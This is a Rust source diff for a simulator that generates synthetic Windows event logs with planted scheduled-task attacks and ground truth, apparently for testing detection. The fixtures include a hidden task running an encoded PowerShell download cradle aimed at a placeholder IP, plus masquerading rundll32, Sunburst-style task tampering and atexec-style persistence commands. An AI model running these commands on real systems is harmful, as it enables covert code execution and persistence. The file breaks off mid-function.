@@ -1,0 +1,1126 @@
+//! A fleet simulator: N hosts over D days, their scheduled-task activity written as genuine
+//! `.evtx` files (per host and channel, named as KAPE collects them), with planted attacks and
+//! a ground-truth file that names every planted record.
+//!
+//! Deterministic: the same configuration and seed give byte-identical files.
+
+pub mod catalog;
+
+use std::io;
+use std::path::{Path, PathBuf};
+
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
+use serde::Serialize;
+
+use crate::event::{CH_SECURITY, CH_TASKSCHEDULER};
+use crate::evtx_writer::{EventSpec, EvtxWriter};
+use catalog::{Action, RunAs, Schedule, TaskDef, Where};
+
+const US_PER_S: i64 = 1_000_000;
+const US_PER_MIN: i64 = 60 * US_PER_S;
+const US_PER_H: i64 = 60 * US_PER_MIN;
+const US_PER_DAY: i64 = 24 * US_PER_H;
+
+/// What to simulate.
+#[derive(Debug, Clone)]
+pub struct Config {
+    pub hosts: usize,
+    pub days: u32,
+    pub seed: u64,
+    /// Microseconds since the Unix epoch of the first day's midnight (UTC).
+    pub start: i64,
+    /// Plant the attacks (needs at least 3 hosts).
+    pub attacks: bool,
+    /// Also write every event as evtx_dump-style JSON Lines, zipped into `jsonl.zip`.
+    pub jsonl: bool,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Config {
+            hosts: 8,
+            days: 2,
+            seed: 1,
+            // 2026-10-05T00:00:00Z, a Monday.
+            start: 1_791_158_400 * US_PER_S,
+            attacks: true,
+            jsonl: false,
+        }
+    }
+}
+
+/// One planted record, as the ground truth names it.
+#[derive(Debug, Clone, Serialize, serde::Deserialize, PartialEq, Eq)]
+pub struct PlantedRecord {
+    /// The file, relative to the output folder.
+    pub file: String,
+    pub record_id: u64,
+    pub event_id: u16,
+}
+
+#[derive(Debug, Clone, Serialize, serde::Deserialize)]
+pub struct Attack {
+    pub id: String,
+    pub technique: String,
+    pub description: String,
+    pub host: String,
+    pub task_name: String,
+    pub records: Vec<PlantedRecord>,
+}
+
+#[derive(Debug, Clone, Serialize, serde::Deserialize)]
+pub struct GroundTruth {
+    pub seed: u64,
+    pub hosts: usize,
+    pub days: u32,
+    pub records: u64,
+    pub attacks: Vec<Attack>,
+}
+
+/// One event waiting to be written, with the attack it belongs to (if planted).
+struct Pending {
+    time: i64,
+    security: bool,
+    spec: EventSpec,
+    attack: Option<usize>,
+}
+
+struct Host {
+    name: String,
+    fqdn: String,
+    server: bool,
+    user: String,
+    user_rid: u32,
+}
+
+const DOMAIN: &str = "CORP";
+const DOMAIN_SID: &str = "S-1-5-21-3623811015-3361044348-30300820";
+const TS_PROVIDER: &str = "Microsoft-Windows-TaskScheduler";
+const TS_GUID: &str = "{DE7B24EA-73C8-4A09-985D-5BDADCFA9017}";
+const SEC_PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
+const SEC_GUID: &str = "{54849625-5478-4994-A5BA-3E3B0328C30D}";
+const USERS: &[&str] = &[
+    "jdoe",
+    "asmith",
+    "mgarcia",
+    "wchen",
+    "pkumar",
+    "lnguyen",
+    "obrien",
+    "tkowalski",
+    "fmuller",
+    "rsilva",
+    "hsato",
+    "dpatel",
+];
+
+fn guid(rng: &mut StdRng) -> String {
+    let b: [u8; 16] = rng.random();
+    format!(
+        "{{{:02X}{:02X}{:02X}{:02X}-{:02X}{:02X}-{:02X}{:02X}-{:02X}{:02X}-{:02X}{:02X}{:02X}{:02X}{:02X}{:02X}}}",
+        b[0],
+        b[1],
+        b[2],
+        b[3],
+        b[4],
+        b[5],
+        b[6],
+        b[7],
+        b[8],
+        b[9],
+        b[10],
+        b[11],
+        b[12],
+        b[13],
+        b[14],
+        b[15]
+    )
+}
+
+/// Environment variables as the task engine expands them for the launched process.
+fn expand(path: &str, user: &str) -> String {
+    let mut out = path.to_string();
+    for (var, value) in [
+        ("%windir%", "C:\\Windows".to_string()),
+        ("%systemroot%", "C:\\Windows".to_string()),
+        ("%systemdrive%", "C:".to_string()),
+        (
+            "%localappdata%",
+            format!("C:\\Users\\{user}\\AppData\\Local"),
+        ),
+        ("%appdata%", format!("C:\\Users\\{user}\\AppData\\Roaming")),
+    ] {
+        while let Some(i) = out.to_ascii_lowercase().find(var) {
+            out.replace_range(i..i + var.len(), &value);
+        }
+    }
+    out
+}
+
+fn xml_escape(s: &str) -> String {
+    s.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+}
+
+/// A task as installed on one host.
+#[derive(Clone)]
+struct HostTask {
+    path: String,
+    def: TaskDef,
+    /// Principal name as TaskScheduler shows it (`NT AUTHORITY\System`, `CORP\jdoe`).
+    principal: String,
+    principal_sid: String,
+    xml: String,
+    /// Day it was installed, for tasks installed during the period.
+    installed: Option<u32>,
+}
+
+fn principal_of(def: &TaskDef, host: &Host) -> (String, String) {
+    match def.run_as {
+        RunAs::System => ("NT AUTHORITY\\System".into(), "S-1-5-18".into()),
+        RunAs::LocalService => ("NT AUTHORITY\\LOCAL SERVICE".into(), "S-1-5-19".into()),
+        RunAs::NetworkService => ("NT AUTHORITY\\NETWORK SERVICE".into(), "S-1-5-20".into()),
+        RunAs::Users => (format!("{DOMAIN}\\{}", host.user), "S-1-5-32-545".into()),
+        RunAs::User => (
+            format!("{DOMAIN}\\{}", host.user),
+            format!("{DOMAIN_SID}-{}", host.user_rid),
+        ),
+        RunAs::Service(name) => (
+            format!("{DOMAIN}\\{name}"),
+            format!("{DOMAIN_SID}-2{:03}", name.len()),
+        ),
+    }
+}
+
+/// The task definition XML, as Security 4698 / 4702 carry it.
+#[allow(clippy::too_many_arguments)]
+pub fn task_xml(
+    uri: &str,
+    author: &str,
+    trigger_xml: &str,
+    principal: &str,
+    group: bool,
+    highest: bool,
+    hidden: bool,
+    action: &Action,
+    working_dir: &str,
+) -> String {
+    let principal_xml = if group {
+        format!("<GroupId>{}</GroupId>", xml_escape(principal))
+    } else {
+        format!(
+            "<UserId>{}</UserId><LogonType>{}</LogonType>",
+            xml_escape(principal),
+            if principal.starts_with("S-1-5-1") || principal.starts_with("S-1-5-20") {
+                "ServiceAccount"
+            } else {
+                "InteractiveToken"
+            }
+        )
+    };
+    let action_xml = match action {
+        Action::Exec { command, arguments } => {
+            let mut a = format!("<Exec><Command>{}</Command>", xml_escape(command));
+            if !arguments.is_empty() {
+                a.push_str(&format!("<Arguments>{}</Arguments>", xml_escape(arguments)));
+            }
+            if !working_dir.is_empty() {
+                a.push_str(&format!(
+                    "<WorkingDirectory>{}</WorkingDirectory>",
+                    xml_escape(working_dir)
+                ));
+            }
+            a.push_str("</Exec>");
+            a
+        }
+        Action::Com { clsid, .. } => format!("<ComHandler><ClassId>{clsid}</ClassId></ComHandler>"),
+    };
+    let author_xml = if author.is_empty() {
+        String::new()
+    } else {
+        format!("<Author>{}</Author>", xml_escape(author))
+    };
+    format!(
+        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.3\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>{author_xml}<URI>{}</URI></RegistrationInfo>\r\n  <Triggers>{trigger_xml}</Triggers>\r\n  <Principals><Principal id=\"Author\">{principal_xml}<RunLevel>{}</RunLevel></Principal></Principals>\r\n  <Settings><MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy><DisallowStartIfOnBatteries>true</DisallowStartIfOnBatteries><StopIfGoingOnBatteries>true</StopIfGoingOnBatteries><AllowHardTerminate>true</AllowHardTerminate><StartWhenAvailable>true</StartWhenAvailable><RunOnlyIfNetworkAvailable>false</RunOnlyIfNetworkAvailable><IdleSettings><StopOnIdleEnd>true</StopOnIdleEnd><RestartOnIdle>false</RestartOnIdle></IdleSettings><AllowStartOnDemand>true</AllowStartOnDemand><Enabled>true</Enabled><Hidden>{hidden}</Hidden><RunOnlyIfIdle>false</RunOnlyIfIdle><WakeToRun>false</WakeToRun><ExecutionTimeLimit>PT72H</ExecutionTimeLimit><Priority>7</Priority></Settings>\r\n  <Actions Context=\"Author\">{action_xml}</Actions>\r\n</Task>",
+        xml_escape(uri),
+        if highest {
+            "HighestAvailable"
+        } else {
+            "LeastPrivilege"
+        },
+    )
+}
+
+fn install(def: &TaskDef, host: &Host, rng: &mut StdRng, days: u32) -> HostTask {
+    let path = def
+        .path
+        .replace("{GUID}", &guid(rng))
+        .replace("{SID}", &format!("{DOMAIN_SID}-{}", host.user_rid));
+    let (principal, principal_sid) = principal_of(def, host);
+    let group = matches!(def.run_as, RunAs::Users);
+    let xml = task_xml(
+        &path,
+        def.author,
+        def.schedule.trigger_xml(),
+        &principal_sid,
+        group,
+        def.highest,
+        def.hidden,
+        &def.action,
+        "",
+    );
+    // Most hosts had the software before the period; about a third install it during it.
+    let installed =
+        (def.installed_during && rng.random_bool(0.35)).then(|| rng.random_range(0..days.max(1)));
+    HostTask {
+        path,
+        def: *def,
+        principal,
+        principal_sid,
+        xml,
+        installed,
+    }
+}
+
+/// Generates one host's events.
+struct Gen<'a> {
+    host: &'a Host,
+    rng: StdRng,
+    out: Vec<Pending>,
+    engine_pid: u32,
+}
+
+impl Gen<'_> {
+    fn ts(
+        &mut self,
+        time: i64,
+        event_id: u16,
+        data_name: &str,
+        data: Vec<(&str, String)>,
+        attack: Option<usize>,
+    ) {
+        let spec = EventSpec {
+            provider: TS_PROVIDER.into(),
+            provider_guid: TS_GUID.into(),
+            event_id,
+            version: 0,
+            level: 4,
+            task: event_id,
+            opcode: if matches!(event_id, 100 | 200) {
+                1
+            } else if matches!(event_id, 102 | 201) {
+                2
+            } else {
+                0
+            },
+            keywords: 0x8000_0000_0000_0000,
+            time,
+            process_id: 1336,
+            thread_id: self.rng.random_range(1000..9000),
+            channel: CH_TASKSCHEDULER.into(),
+            computer: self.host.fqdn.clone(),
+            user_sid: "S-1-5-18".into(),
+            data_name: data_name.into(),
+            data: data.into_iter().map(|(k, v)| (k.to_string(), v)).collect(),
+        };
+        self.out.push(Pending {
+            time,
+            security: false,
+            spec,
+            attack,
+        });
+    }
+
+    fn sec(
+        &mut self,
+        time: i64,
+        event_id: u16,
+        task: u16,
+        data: Vec<(&str, String)>,
+        attack: Option<usize>,
+    ) {
+        let spec = EventSpec {
+            provider: SEC_PROVIDER.into(),
+            provider_guid: SEC_GUID.into(),
+            event_id,
+            version: if event_id == 4688 { 2 } else { 1 },
+            level: 0,
+            task,
+            opcode: 0,
+            keywords: 0x8020_0000_0000_0000,
+            time,
+            process_id: 4,
+            thread_id: self.rng.random_range(100..900),
+            channel: CH_SECURITY.into(),
+            computer: self.host.fqdn.clone(),
+            user_sid: String::new(),
+            data_name: String::new(),
+            data: data.into_iter().map(|(k, v)| (k.to_string(), v)).collect(),
+        };
+        self.out.push(Pending {
+            time,
+            security: true,
+            spec,
+            attack,
+        });
+    }
+
+    /// Subject fields of a Security event: the computer account, or a domain user.
+    fn subject(&mut self, user: Option<&str>) -> Vec<(&'static str, String)> {
+        match user {
+            None => vec![
+                ("SubjectUserSid", "S-1-5-18".into()),
+                ("SubjectUserName", format!("{}$", self.host.name)),
+                ("SubjectDomainName", DOMAIN.into()),
+                ("SubjectLogonId", "0x3e7".into()),
+            ],
+            Some(u) => vec![
+                (
+                    "SubjectUserSid",
+                    format!("{DOMAIN_SID}-{}", 1100 + u.len() as u32 * 7),
+                ),
+                ("SubjectUserName", u.to_string()),
+                ("SubjectDomainName", DOMAIN.into()),
+                (
+                    "SubjectLogonId",
+                    format!("0x{:x}", self.rng.random_range(0x10000..0xfffffff)),
+                ),
+            ],
+        }
+    }
+
+    /// Security 4698-4702 for a task, and TaskScheduler's matching 106 / 140 / 141.
+    fn lifecycle(
+        &mut self,
+        time: i64,
+        event_id: u16,
+        path: &str,
+        xml: &str,
+        by: Option<&str>,
+        attack: Option<usize>,
+    ) {
+        let mut data = self.subject(by);
+        data.push(("TaskName", path.to_string()));
+        data.push((
+            if event_id == 4702 {
+                "TaskContentNew"
+            } else {
+                "TaskContent"
+            },
+            xml.to_string(),
+        ));
+        data.extend([
+            (
+                "ClientProcessStartKey",
+                format!("{}", self.rng.random_range(1u64 << 40..1u64 << 50)),
+            ),
+            (
+                "ClientProcessId",
+                format!("{}", self.rng.random_range(500..9000)),
+            ),
+            (
+                "ParentProcessId",
+                format!("{}", self.rng.random_range(500..9000)),
+            ),
+            ("RpcCallClientLocality", "0".into()),
+            ("FQDN", self.host.fqdn.clone()),
+        ]);
+        self.sec(time, event_id, 12804, data, attack);
+        let user = match by {
+            None => "NT AUTHORITY\\System".to_string(),
+            Some(u) => format!("{DOMAIN}\\{u}"),
+        };
+        let later = time + self.rng.random_range(1..900) * 1000;
+        match event_id {
+            4698 => self.ts(
+                later,
+                106,
+                "TaskRegisteredEvent",
+                vec![("TaskName", path.into()), ("UserContext", user)],
+                attack,
+            ),
+            4702 => self.ts(
+                later,
+                140,
+                "TaskRegistrationUpdatedEvent",
+                vec![("TaskName", path.into()), ("UserName", user)],
+                attack,
+            ),
+            4699 => self.ts(
+                later,
+                141,
+                "TaskRegistrationDeleted",
+                vec![("TaskName", path.into()), ("UserName", user)],
+                attack,
+            ),
+            _ => {}
+        }
+    }
+
+    /// One run: 129 (process created), 100, 200, 201, 102.
+    fn run(&mut self, time: i64, t: &HostTask, on_demand_by: Option<&str>, attack: Option<usize>) {
+        let instance = guid(&mut self.rng);
+        let pid = self.rng.random_range(1000..20000u32);
+        let mut at = time;
+        let mut step = |rng: &mut StdRng| {
+            at += rng.random_range(1..400) * 1000;
+            at
+        };
+        if let Some(u) = on_demand_by {
+            let t0 = step(&mut self.rng);
+            self.ts(
+                t0,
+                110,
+                "TaskRunEvent",
+                vec![
+                    ("TaskName", t.path.clone()),
+                    ("InstanceId", instance.clone()),
+                    ("UserContext", format!("{DOMAIN}\\{u}")),
+                ],
+                attack,
+            );
+        }
+        let action_name = match t.def.action {
+            Action::Exec { command, .. } => expand(command, &self.host.user),
+            Action::Com { name, .. } => name.to_string(),
+        };
+        if let Action::Exec { command, .. } = t.def.action {
+            let t1 = step(&mut self.rng);
+            self.ts(
+                t1,
+                129,
+                "CreatedTaskProcess",
+                vec![
+                    ("TaskName", t.path.clone()),
+                    ("Path", expand(command, &self.host.user)),
+                    ("ProcessID", pid.to_string()),
+                    ("Priority", "16384".into()),
+                ],
+                attack,
+            );
+        }
+        let t2 = step(&mut self.rng);
+        self.ts(
+            t2,
+            100,
+            "TaskStartEvent",
+            vec![
+                ("TaskName", t.path.clone()),
+                ("UserContext", t.principal.clone()),
+                ("InstanceId", instance.clone()),
+            ],
+            attack,
+        );
+        let t3 = step(&mut self.rng);
+        self.ts(
+            t3,
+            200,
+            "ActionStart",
+            vec![
+                ("TaskName", t.path.clone()),
+                ("ActionName", action_name.clone()),
+                ("TaskInstanceId", instance.clone()),
+                ("EnginePID", self.engine_pid.to_string()),
+            ],
+            attack,
+        );
+        let result = if self.rng.random_bool(0.03) {
+            "2147942402"
+        } else {
+            "0"
+        };
+        let t4 = at + self.rng.random_range(1..120) * US_PER_S;
+        self.ts(
+            t4,
+            201,
+            "ActionSuccess",
+            vec![
+                ("TaskName", t.path.clone()),
+                ("TaskInstanceId", instance.clone()),
+                ("ActionName", action_name),
+                ("ResultCode", result.into()),
+                ("EnginePID", self.engine_pid.to_string()),
+            ],
+            attack,
+        );
+        let t5 = t4 + self.rng.random_range(1..300) * 1000;
+        self.ts(
+            t5,
+            102,
+            "TaskSuccessEvent",
+            vec![
+                ("TaskName", t.path.clone()),
+                ("UserName", t.principal.clone()),
+                ("InstanceId", instance),
+            ],
+            attack,
+        );
+    }
+
+    /// A `schtasks.exe` process creation (Security 4688).
+    fn schtasks(
+        &mut self,
+        time: i64,
+        by: &str,
+        command_line: &str,
+        parent: &str,
+        attack: Option<usize>,
+    ) {
+        let mut data = self.subject(Some(by));
+        data.extend([
+            (
+                "NewProcessId",
+                format!("0x{:x}", self.rng.random_range(0x100..0x4000)),
+            ),
+            (
+                "NewProcessName",
+                "C:\\Windows\\System32\\schtasks.exe".into(),
+            ),
+            ("TokenElevationType", "%%1937".into()),
+            (
+                "ProcessId",
+                format!("0x{:x}", self.rng.random_range(0x100..0x4000)),
+            ),
+            ("CommandLine", command_line.to_string()),
+            ("TargetUserSid", "S-1-0-0".into()),
+            ("TargetUserName", "-".into()),
+            ("TargetDomainName", "-".into()),
+            ("TargetLogonId", "0x0".into()),
+            ("ParentProcessName", parent.to_string()),
+            ("MandatoryLabel", "S-1-16-12288".into()),
+        ]);
+        self.sec(time, 4688, 13312, data, attack);
+    }
+
+    /// Times in day `d` at which a task with `schedule` runs.
+    fn run_times(&mut self, schedule: Schedule, day: u32, start: i64) -> Vec<i64> {
+        let midnight = start + i64::from(day) * US_PER_DAY;
+        let jitter = |rng: &mut StdRng| rng.random_range(0..20 * US_PER_MIN);
+        match schedule {
+            Schedule::Hours(n) => (0..24 / n.max(1))
+                .map(|k| midnight + i64::from(k * n) * US_PER_H + jitter(&mut self.rng))
+                .collect(),
+            Schedule::Daily => vec![midnight + 3 * US_PER_H + jitter(&mut self.rng) * 3],
+            Schedule::Weekly => {
+                if day % 7 == 6 {
+                    vec![midnight + US_PER_H + jitter(&mut self.rng)]
+                } else {
+                    Vec::new()
+                }
+            }
+            Schedule::Logon => {
+                if self.host.server {
+                    Vec::new()
+                } else {
+                    let n = self.rng.random_range(1..=2);
+                    (0..n)
+                        .map(|k| midnight + (8 + 5 * k) * US_PER_H + jitter(&mut self.rng))
+                        .collect()
+                }
+            }
+            Schedule::Boot => {
+                if day == 0 {
+                    vec![midnight + 7 * US_PER_H]
+                } else {
+                    Vec::new()
+                }
+            }
+            Schedule::Never => Vec::new(),
+        }
+    }
+}
+
+fn hosts(cfg: &Config, rng: &mut StdRng) -> Vec<Host> {
+    let servers = (cfg.hosts / 4).max(usize::from(cfg.hosts >= 3));
+    (0..cfg.hosts)
+        .map(|i| {
+            let server = i >= cfg.hosts - servers;
+            let name = if server {
+                format!("SRV{:02}", i - (cfg.hosts - servers) + 1)
+            } else {
+                format!("WS{:03}", i + 1)
+            };
+            let user = if server {
+                "admin.jones".to_string()
+            } else {
+                USERS[i % USERS.len()].to_string()
+            };
+            let user = if !server && i >= USERS.len() {
+                format!("{user}{}", i / USERS.len())
+            } else {
+                user
+            };
+            Host {
+                fqdn: format!("{}.corp.example", name.to_lowercase()),
+                name,
+                server,
+                user,
+                user_rid: 1104 + i as u32 + rng.random_range(0..3),
+            }
+        })
+        .collect()
+}
+
+fn has_task(def: &TaskDef, host: &Host, rng: &mut StdRng) -> bool {
+    match def.hosts {
+        Where::All => true,
+        Where::Workstations => !host.server,
+        Where::Servers => host.server,
+        Where::SomeWorkstations(pct) => !host.server && rng.random_range(0..100) < pct,
+    }
+}
+
+/// Benign activity of one host over the period.
+fn benign(g: &mut Gen<'_>, cfg: &Config, tasks: &[HostTask]) {
+    for day in 0..cfg.days {
+        let midnight = cfg.start + i64::from(day) * US_PER_DAY;
+        for t in tasks {
+            if let Some(d) = t.installed {
+                if day < d {
+                    continue;
+                }
+                if day == d {
+                    let at = midnight + 10 * US_PER_H + g.rng.random_range(0..6 * US_PER_H);
+                    let by = matches!(t.def.run_as, RunAs::User).then(|| g.host.user.clone());
+                    g.lifecycle(at, 4698, &t.path, &t.xml, by.as_deref(), None);
+                }
+            }
+            for at in g.run_times(t.def.schedule, day, cfg.start) {
+                g.run(at, t, None, None);
+            }
+        }
+        // Windows Update day: the orchestrator re-registers its tasks everywhere.
+        if day == cfg.days / 2 {
+            for t in tasks
+                .iter()
+                .filter(|t| t.path.contains("UpdateOrchestrator"))
+            {
+                let at = midnight + 4 * US_PER_H + g.rng.random_range(0..US_PER_H);
+                g.lifecycle(at, 4702, &t.path, &t.xml, None, None);
+            }
+        }
+        // Edge's updater rewrites its tasks each day it runs.
+        for t in tasks
+            .iter()
+            .filter(|t| t.path.starts_with("\\MicrosoftEdgeUpdate"))
+        {
+            if g.rng.random_bool(0.5) {
+                let at = midnight + 12 * US_PER_H + g.rng.random_range(0..US_PER_H);
+                g.lifecycle(at, 4702, &t.path, &t.xml, None, None);
+            }
+        }
+        if g.host.server && day == 0 {
+            let at = midnight + 9 * US_PER_H + g.rng.random_range(0..US_PER_H);
+            g.schtasks(
+                at,
+                "admin.jones",
+                "schtasks.exe /query /fo LIST /v",
+                "C:\\Windows\\System32\\cmd.exe",
+                None,
+            );
+            if let Some(t) = tasks.iter().find(|t| t.path == "\\Backup\\NightlyBackup") {
+                let at = midnight + 15 * US_PER_H;
+                g.schtasks(
+                    at,
+                    "admin.jones",
+                    "schtasks /run /tn \"\\Backup\\NightlyBackup\"",
+                    "C:\\Windows\\System32\\cmd.exe",
+                    None,
+                );
+                g.run(at + US_PER_S, t, Some("admin.jones"), None);
+            }
+        }
+    }
+    // Some users uninstall Zoom on the last day.
+    if let Some(t) = tasks.iter().find(|t| t.path == "\\ZoomUpdateTask")
+        && g.rng.random_bool(0.5)
+    {
+        let at = cfg.start + i64::from(cfg.days.saturating_sub(1)) * US_PER_DAY + 16 * US_PER_H;
+        let user = g.host.user.clone();
+        g.lifecycle(at, 4699, &t.path, &t.xml, Some(&user), None);
+    }
+}
+
+fn random_task_name(rng: &mut StdRng) -> String {
+    (0..8)
+        .map(|_| {
+            let c = rng.random_range(0..52u8);
+            (if c < 26 { b'a' + c } else { b'A' + c - 26 }) as char
+        })
+        .collect()
+}
+
+/// Plant the attacks. Returns their descriptions (records are filled in when written).
+fn plant(gens: &mut [Gen<'_>], tasks: &[Vec<HostTask>], cfg: &Config) -> Vec<Attack> {
+    let mut attacks = Vec::new();
+    let n = gens.len();
+    if !cfg.attacks || n < 3 {
+        return attacks;
+    }
+    let ws: Vec<usize> = (0..n).filter(|&i| !gens[i].host.server).collect();
+    let srv = (0..n).find(|&i| gens[i].host.server).unwrap_or(n - 1);
+    let pick = |k: usize| ws[k % ws.len()];
+    let day = |d: u32| cfg.start + i64::from(d.min(cfg.days - 1)) * US_PER_DAY;
+    let mid = cfg.days / 2;
+
+    // 1. A hidden task that runs encoded PowerShell at logon, registered by the user.
+    let h = pick(0);
+    let id = attacks.len();
+    let g = &mut gens[h];
+    let user = g.host.user.clone();
+    let path = "\\OneDriveSyncHelper".to_string();
+    let action = Action::Exec {
+        command: "powershell.exe",
+        arguments: "-NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAMAAvAGEAJwApAA==",
+    };
+    let sid = format!("{DOMAIN_SID}-{}", g.host.user_rid);
+    let xml = task_xml(
+        &path,
+        &format!("{DOMAIN}\\{user}"),
+        Schedule::Logon.trigger_xml(),
+        &sid,
+        false,
+        false,
+        true,
+        &action,
+        &format!("C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows"),
+    );
+    let t0 = day(mid) + 14 * US_PER_H + 17 * US_PER_MIN;
+    g.lifecycle(t0, 4698, &path, &xml, Some(&user), Some(id));
+    let task = HostTask {
+        path: path.clone(),
+        def: TaskDef {
+            action,
+            run_as: RunAs::User,
+            schedule: Schedule::Logon,
+            ..tasks[h][0].def
+        },
+        principal: format!("{DOMAIN}\\{user}"),
+        principal_sid: sid,
+        xml,
+        installed: None,
+    };
+    let mut runs = vec![t0 + 2 * US_PER_MIN];
+    for d in mid + 1..cfg.days {
+        runs.extend(g.run_times(Schedule::Logon, d, cfg.start));
+    }
+    for at in runs {
+        g.run(at, &task, None, Some(id));
+    }
+    attacks.push(Attack { id: "hidden-encoded-powershell".into(), technique: "T1053.005".into(), description: format!("hidden task registered by {DOMAIN}\\{user}, runs powershell -NoP -W Hidden -Enc (a download cradle) at logon"), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
+
+    // 2. A task masquerading under \Microsoft\Windows\ that runs rundll32 on a DLL in ProgramData.
+    let h = pick(1);
+    let id = attacks.len();
+    let g = &mut gens[h];
+    let path = "\\Microsoft\\Windows\\Maintenance\\CacheCleanup".to_string();
+    let action = Action::Exec {
+        command: "C:\\Windows\\System32\\rundll32.exe",
+        arguments: "C:\\ProgramData\\Microsoft\\Crypto\\cachesvc.dll,DllRegisterServer",
+    };
+    let xml = task_xml(
+        &path,
+        "Microsoft Corporation",
+        Schedule::Daily.trigger_xml(),
+        "S-1-5-18",
+        false,
+        true,
+        false,
+        &action,
+        "",
+    );
+    let t0 = day(mid.saturating_sub(1)) + 22 * US_PER_H + 41 * US_PER_MIN;
+    let user = g.host.user.clone();
+    g.lifecycle(t0, 4698, &path, &xml, Some(&user), Some(id));
+    let task = HostTask {
+        path: path.clone(),
+        def: TaskDef {
+            action,
+            run_as: RunAs::System,
+            schedule: Schedule::Daily,
+            ..tasks[h][0].def
+        },
+        principal: "NT AUTHORITY\\System".into(),
+        principal_sid: "S-1-5-18".into(),
+        xml,
+        installed: None,
+    };
+    for d in mid..cfg.days {
+        for at in g.run_times(Schedule::Daily, d, cfg.start) {
+            g.run(at, &task, None, Some(id));
+        }
+    }
+    attacks.push(Attack { id: "masquerading-rundll32".into(), technique: "T1053.005, T1036.004, T1218.011".into(), description: "task under \\Microsoft\\Windows\\ with a forged Microsoft author runs rundll32 on a DLL in ProgramData as SYSTEM".into(), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
+
+    // 3. Sunburst-style: a legitimate task pointed at an attacker binary, run, then restored.
+    let h = pick(2);
+    let id = attacks.len();
+    let g = &mut gens[h];
+    let legit = tasks[h]
+        .iter()
+        .find(|t| t.path.ends_with("\\Consolidator"))
+        .cloned()
+        .unwrap_or_else(|| tasks[h][0].clone());
+    let action = Action::Exec {
+        command: "C:\\Windows\\Temp\\wsqmcons.exe",
+        arguments: "-k netsvcs",
+    };
+    let evil_xml = task_xml(
+        &legit.path,
+        MS_AUTHOR,
+        legit.def.schedule.trigger_xml(),
+        &legit.principal_sid,
+        false,
+        true,
+        false,
+        &action,
+        "",
+    );
+    let t0 = day(mid) + 2 * US_PER_H + 3 * US_PER_MIN;
+    let by = "admin.jones";
+    g.lifecycle(t0, 4702, &legit.path, &evil_xml, Some(by), Some(id));
+    let evil = HostTask {
+        xml: evil_xml,
+        def: TaskDef {
+            action,
+            ..legit.def
+        },
+        ..legit.clone()
+    };
+    g.run(t0 + 40 * US_PER_S, &evil, Some(by), Some(id));
+    g.lifecycle(
+        t0 + 6 * US_PER_MIN,
+        4702,
+        &legit.path,
+        &legit.xml,
+        Some(by),
+        Some(id),
+    );
+    attacks.push(Attack { id: "temporary-task-modification".into(), technique: "T1053.005 (Sunburst / Solorigate)".into(), description: format!("{} pointed at C:\\Windows\\Temp\\wsqmcons.exe, run on demand, and restored six minutes later", legit.path), host: g.host.fqdn.clone(), task_name: legit.path.clone(), records: Vec::new() });
+
+    // 4. ATSVC / atexec style: a randomly named task created remotely, run, deleted.
+    let h = srv;
+    let id = attacks.len();
+    let g = &mut gens[h];
+    let name = random_task_name(&mut g.rng);
+    let path = format!("\\{name}");
+    let args = format!("/C whoami > %windir%\\Temp\\{name}.tmp 2>&1");
+    // Actions hold static strings (the catalog is static); this one is made once per run.
+    let action = Action::Exec {
+        command: "cmd.exe",
+        arguments: Box::leak(args.into_boxed_str()),
+    };
+    let xml = task_xml(
+        &path,
+        "",
+        Schedule::Daily.trigger_xml(),
+        "S-1-5-18",
+        false,
+        true,
+        false,
+        &action,
+        "",
+    );
+    let t0 = day(cfg.days - 1) + 3 * US_PER_H + 33 * US_PER_MIN;
+    g.lifecycle(t0, 4698, &path, &xml, Some("admin.jones"), Some(id));
+    let task = HostTask {
+        path: path.clone(),
+        def: TaskDef {
+            action,
+            run_as: RunAs::System,
+            schedule: Schedule::Never,
+            ..tasks[h][0].def
+        },
+        principal: "NT AUTHORITY\\System".into(),
+        principal_sid: "S-1-5-18".into(),
+        xml: xml.clone(),
+        installed: None,
+    };
+    g.run(t0 + US_PER_S, &task, Some("admin.jones"), Some(id));
+    g.lifecycle(
+        t0 + 4 * US_PER_S,
+        4699,
+        &path,
+        &xml,
+        Some("admin.jones"),
+        Some(id),
+    );
+    attacks.push(Attack { id: "atexec-remote-task".into(), technique: "T1053.005 (impacket atexec)".into(), description: "randomly named task created over the network, runs cmd.exe /C whoami into %windir%\\Temp, deleted seconds later".into(), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
+
+    // 5. A task created by an account that never creates tasks, on one host only.
+    let h = srv;
+    let id = attacks.len();
+    let g = &mut gens[h];
+    let path = "\\SQL Cleanup".to_string();
+    let action = Action::Exec {
+        command: "C:\\Users\\Public\\Libraries\\sqlcln.exe",
+        arguments: "",
+    };
+    let xml = task_xml(
+        &path,
+        &format!("{DOMAIN}\\svc_sql"),
+        Schedule::Daily.trigger_xml(),
+        "S-1-5-18",
+        false,
+        true,
+        false,
+        &action,
+        "",
+    );
+    let t0 = day(1) + 23 * US_PER_H + 12 * US_PER_MIN;
+    g.schtasks(t0, "svc_sql", "schtasks /create /tn \"SQL Cleanup\" /tr \"C:\\Users\\Public\\Libraries\\sqlcln.exe\" /sc daily /ru SYSTEM /f", "C:\\Windows\\System32\\cmd.exe", Some(id));
+    g.lifecycle(t0 + 200_000, 4698, &path, &xml, Some("svc_sql"), Some(id));
+    let task = HostTask {
+        path: path.clone(),
+        def: TaskDef {
+            action,
+            run_as: RunAs::System,
+            schedule: Schedule::Daily,
+            ..tasks[h][0].def
+        },
+        principal: "NT AUTHORITY\\System".into(),
+        principal_sid: "S-1-5-18".into(),
+        xml,
+        installed: None,
+    };
+    for d in 2..cfg.days {
